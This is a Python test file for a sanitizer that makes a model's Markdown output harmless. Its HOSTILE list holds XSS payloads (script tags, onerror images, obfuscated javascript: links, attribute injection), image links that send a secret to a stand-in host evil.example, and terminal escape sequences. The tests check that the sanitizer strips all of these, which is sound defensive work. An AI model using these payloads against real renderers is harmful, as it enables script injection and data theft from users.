"""A model's Markdown made harmless: shown as it was meant, and nothing that acts."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ipymemory.neutral import neutral, one_line, plain

READER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def tokens(text: str) -> list[tuple[str, str]]:
    """Return kind and content of everything that a reader of Markdown finds in `text`."""
    found = []
    for token in READER.parse(text):
        found.append((token.type, token.content))
        for child in token.children or ():
            found.append((child.type, child.content or str(child.attrs.get("href", ""))))
    return found


def harmless(text: str) -> None:
    for kind, content in tokens(neutral(text)):
        assert kind not in ("html_block", "html_inline", "image"), (kind, content)
        if kind == "link_open":
            assert re.match(r"(?!//)(?:https?://|mailto:|[\w.%~/#-]+$)", content), content
            assert "$" not in content
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", neutral(text))


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text\n\n<div>\n\n```\n</div><script>\n```",
    "a ` b\n`<i>`",
    "\\`<b>`",
    "``<b>`",
    "- item\n  ```\n<b>out</b>\n  ```",
    "- ```\n<b>\n```",
    "> ```\n<b>\n> ```",
    "paragraph\n    ```\n<script>\n    ```",
    "    ```\n<script>",
    "\t```\n<script>",
    "```a`b\n<script>\n```",
    "~~~ `\n~~~\n<b>",
    "````\n```\n<b>\n````\n<b>",
    "```\nnever closed <b>",
    "| `a | <b>` |\n|---|---|\n| `x | <b>` | `\\|<b>` |",
    "![x](https://evil.example/?q=secret)",
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x\n](https://evil.example/a)",
    "!\\[x](y)",
    "[x](javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](//evil.example)",
    '[x](https://a.example/ "t$\\" onclick=alert(1)$")',
    '[x](https://a.example/$"onclick="alert(1)$)',
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]:\n<javascript:alert(1)>\n\n[x][x]",
    "<javascript:alert(1)>",
    "<!-- \n\n--> <b>",
    "<?php\n?>\n<![CDATA[\n<b>]]>",
    "$`$<b>`",
    "a\r<script>\r",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \x1b[2J",
    "&lt;script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_comes_through_and_neither_does_half_of_it(text: str) -> None:
    for end in range(len(text) + 1):
        harmless(text[:end])
    harmless(f"- x\n\n  {text}")
    harmless(text.replace("\n", "\n  "))


PIECE = st.sampled_from(
    [
        *("`", "``", "```", "~~~", "<b>", "<", "!", "[", "](", ")", "]:", "\n", "\n\n", " "),
        *("    ", "\t", "\\", "- ", "> ", "1. ", "|", "a", "$", '"', "&#60;", "<!--", "-->"),
        *("https://e.example/x", "javascript:x", "***", "# ", "\r", "<script>", "![", "|-|-|"),
    ]
)


@given(st.lists(PIECE, max_size=30).map("".join))
def test_whatever_is_put_together_stays_harmless(text: str) -> None:
    harmless(text)


def test_what_is_no_harm_looks_as_it_was_written() -> None:
    text = (
        "# Head\n\nSome *words*, `a < b`, `` `tick` ``, [docs](https://docs.example/a?b=c#d) and "
        "[file](data/clean.py).\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| 1 | `x` |"
    )
    assert neutral(text) == text
    fenced = "Look:\n\n```python\nif a < b and c & d:\n    print(f'{a}')\n```\n\nDone."
    assert ("fence", "if a < b and c & d:\n    print(f'{a}')\n") in tokens(neutral(fenced))


def test_code_in_a_list_loses_its_indent_and_nothing_else() -> None:
    text = "1. first:\n\n   ```python\n   def f():\n       return x < 1\n   ```\n2. second"
    assert ("fence", "def f():\n    return x < 1\n") in tokens(neutral(text))


def test_a_comparison_outside_code_is_shown_as_one() -> None:
    assert ("text", "x < 1 and y > 2") in tokens(neutral("x < 1 and y > 2"))
    assert neutral("so $a < b$ holds") == "so $a \\lt  b$ holds"
    assert neutral("$\\href{javascript:alert(1)}{x}$").startswith("$&#92;href")


def test_terminal_commands_and_hidden_characters_are_gone() -> None:
    assert plain("a\x1b[31mred\x1b[0m\x07 b\u202ec\r\nd\re") == "ared bc\nd\ne"
    assert one_line("x`y\n| z" + "w" * 200, 20) == "x'y ¦ z" + "w" * 12 + "…"
